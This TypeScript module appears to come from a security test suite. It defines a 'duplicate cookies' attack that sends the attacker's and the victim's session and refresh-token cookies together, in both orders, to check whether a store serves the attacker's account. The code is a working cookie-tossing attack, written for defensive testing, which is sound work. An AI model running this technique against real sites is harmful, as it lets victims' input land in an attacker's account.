/** Two cookies of one name: what is left of cookie tossing where names can't be protected. */
import type { Attack } from "../attack.ts";
import { Client } from "../client.ts";
import { cookieName, elsewhere, grace, home, shopper, showsCartOf, victim } from "../people.ts";
import { theftFrom } from "../theft.ts";

export const attack: Attack = {
  title: "Duplicate cookies",
  story:
    "The attacker, with an account of their own, plants their cookies beside the victim's, so that the victim's browser sends two of each name. Servers differ in which one they take. If the attacker's count, the victim shops in the attacker's account and leaves there what they type.",
  source: "Cookie Crumbles (USENIX Security 2023); ASVS 3.3.1; CWE-1275",
  promised: { kind: "nothing" },
  asDescribed: "holds",
  control: ["duplicate-cookies-accepted"],
  async run(target) {
    const owner = await victim(target);
    const attacker = await shopper(target, grace, elsewhere);
    const theft = await theftFrom(target);
    for (const [first, second] of [
      [attacker, owner],
      [owner, attacker],
    ] as const) {
      for (const names of [["session"], ["session", "refresh-token"]] as const) {
        const cookie = [first, second]
          .flatMap((from) =>
            names.map((name) => `${cookieName(from, name)}=${from.cookies.get(cookieName(from, name))}`),
          )
          .join("; ");
        await theft.attempt(() => isServedAsAttacker(target.origins.store, cookie));
      }
    }
    return theft.measured(owner);
  },
};

async function isServedAsAttacker(origin: string, cookie: string): Promise<boolean> {
  return showsCartOf(grace, await new Client(origin).get(home, { headers: { cookie } }));
}
